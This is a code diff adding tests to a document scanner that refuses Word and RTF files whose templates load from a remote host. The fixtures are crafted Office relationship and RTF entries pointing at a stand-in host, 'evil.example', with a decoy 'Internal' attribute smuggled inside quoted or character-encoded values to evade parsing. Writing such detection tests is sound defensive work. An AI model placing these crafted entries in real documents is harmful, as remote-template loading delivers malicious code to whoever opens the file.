@@ -229,6 +229,25 @@ describe("documents that are refused for what is in them", () => {
     expect(await lookIntoDocument("a.docx", rels(type, target))).toEqual(refused("remote"));
   });
 
+  test.each([
+    ["in another kind of quotes", `Id=' TargetMode="Internal" '`],
+    ["in letters by number", 'Id="&#34; TargetMode=&#34;Internal&#34; x=&#34;"'],
+  ])(
+    "a document that loads its template from elsewhere is refused, though another attribute says that it does not, %s",
+    async (_how, hidden) => {
+      const content = `<Relationships><Relationship ${hidden} Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
+      const file = office({ name: "word/_rels/settings.xml.rels", content });
+      expect(await lookIntoDocument("a.docx", file)).toEqual(refused("remote"));
+    },
+  );
+
+  test("the rep is asked about a document that takes a part of another kind into itself", async () => {
+    expect(await lookIntoDocument("a.docx", rels("aFChunk", "/word/part.rtf", "Internal"))).toEqual({
+      kind: "ask",
+      doubt: "unseen",
+    });
+  });
+
   test("rich text that loads its template from elsewhere is refused", async () => {
     const content = bytes("{\\rtf1{\\*\\template https://evil.example/x.dotm}}");
     expect(await lookIntoDocument("a.rtf", content)).toEqual(refused("remote"));
